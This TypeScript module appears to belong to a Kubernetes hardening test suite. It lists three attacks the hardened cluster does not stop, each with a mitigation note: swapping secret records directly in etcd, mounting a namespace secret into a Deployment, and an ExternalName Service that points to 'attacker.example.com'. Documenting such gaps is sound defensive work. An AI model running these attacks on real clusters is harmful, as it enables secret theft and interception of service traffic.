import { hardenedPod } from '@palisade/rules';
import { type Attack, about, type Draft } from '../attack';
import { judged, request, untried } from '../request-attack';
import { base64, intruding, range, recordOf, valueIn } from './etcd';

/** An attack that the hardened cluster does not stop. */
export interface Limit {
  readonly attack: Attack;
  /** Why, and what to do where that matters. */
  readonly why: string;
}

const swapped: Draft = {
  id: 'etcd-swapped-record',
  title: 'Have a secret shown under the name of another that one may read, by copying its record in etcd',
  technique: 'T1552.007',
  mutates: true,
  stoppedBy: 'nothing',
  run: (target) =>
    intruding(target, async (client) => {
      const reader = target.as('reader of one secret');
      const { secret, namespace, granted } = target;
      if (reader === undefined || secret === undefined || granted === undefined) {
        return untried('it needs a reader of one secret, and two secrets');
      }
      const key = `/registry/secrets/${namespace}/${granted}`;
      const put = (value: Buffer | undefined) =>
        client.send({
          method: 'POST',
          path: '/v3/kv/put',
          body: { key: base64(key), value: value?.toString('base64') ?? '' },
        });
      const [own, others] = [valueIn(await range(client, key)), valueIn(await range(client, recordOf(target)))];
      await put(others);
      try {
        const answer = await reader.get(`/api/v1/namespaces/${namespace}/secrets/${granted}`);
        const marker = base64(secret.marker);
        return judged(answer, ({ text }) => (text.includes(marker) ? 'shown under the other name' : undefined));
      } finally {
        await put(own);
      }
    }),
};

const mounting = request({
  id: 'developer-mounts-secret',
  title: 'Mount a secret of one’s own namespace into a Deployment, to read it there',
  technique: 'T1552.007',
  as: 'developer',
  stoppedBy: 'nothing',
  call: ({ namespace, account, secret }) => {
    if (secret === undefined) return 'it needs a secret in the namespace';
    const labels = { app: 'attack-mount' };
    const volumes = [{ name: 'loot', secret: { secretName: secret.name } }];
    return {
      method: 'POST',
      path: `/apis/apps/v1/namespaces/${namespace}/deployments?dryRun=All`,
      body: {
        apiVersion: 'apps/v1',
        kind: 'Deployment',
        metadata: { name: 'attack-mount' },
        spec: {
          selector: { matchLabels: labels },
          template: { metadata: { labels }, spec: hardenedPod({ serviceAccountName: account, volumes }) },
        },
      },
    };
  },
});

const naming = request({
  id: 'service-external-name',
  title: 'Give a name outside of the cluster the look of a service within (ExternalName)',
  technique: 'T1557',
  as: 'developer',
  stoppedBy: 'nothing',
  call: ({ namespace }) => ({
    method: 'POST',
    path: `/api/v1/namespaces/${namespace}/services?dryRun=All`,
    body: {
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: 'attack-name' },
      spec: { type: 'ExternalName', externalName: 'attacker.example.com' },
    },
  }),
});

const reasons: readonly (readonly [draft: Draft, why: string])[] = [
  [
    mounting,
    'RBAC has no line between who may run workloads in a namespace and its secrets: keep in another namespace what its developers must not have.',
  ],
  [
    naming,
    'The rule against it is of medium severity: it warns the sender and marks the audit log. Raise it to deny where no team needs such names.',
  ],
  [
    swapped,
    'A local key (secretbox) does not bind a record to its name. It takes write access to etcd, which needs the API server’s own certificate. A KMS plugin binds records to their names.',
  ],
];

/** What is not stopped, and is said so. */
export const limits: readonly Limit[] = about(
  'secrets',
  reasons.map(([draft]) => draft),
).map((attack, index) => ({
  attack,
  why: reasons[index]?.[1] ?? '',
}));
